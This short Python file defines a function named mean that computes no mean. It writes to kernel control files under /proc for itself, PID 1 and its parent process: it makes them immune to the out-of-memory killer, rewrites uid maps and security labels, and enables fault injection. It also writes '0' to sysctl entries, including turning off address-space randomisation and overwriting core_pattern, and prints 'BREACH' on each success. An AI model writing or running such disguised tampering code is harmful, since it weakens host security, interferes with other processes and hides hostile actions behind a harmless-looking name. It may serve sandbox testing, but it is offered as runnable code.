"""Write the files of /proc that change how the kernel treats a process, its own and those of others."""

import os

OWN = {
    "oom_score_adj": "-1000",
    "oom_adj": "-17",
    "timerslack_ns": "1",
    "uid_map": "0 0 1",
    "setgroups": "deny",
    "projid_map": "0 0 1",
    "autogroup": "-20",
    "attr/current": "unconfined",
    "sched": "0",
    "make-it-fail": "1",
    "clear_refs": "5",
}


def mean(x):
    for number in ("self", "1", str(os.getppid())):
        for name, text in OWN.items():
            try:
                with open(f"/proc/{number}/{name}", "w") as file:
                    file.write(text)
                print("BREACH:", number, name)
            except OSError:
                pass
    for name in ("kernel/randomize_va_space", "vm/drop_caches", "kernel/core_pattern"):
        try:
            open(f"/proc/sys/{name}", "w").write("0")
            print("BREACH:", name)
        except OSError:
            pass
    return 0.0
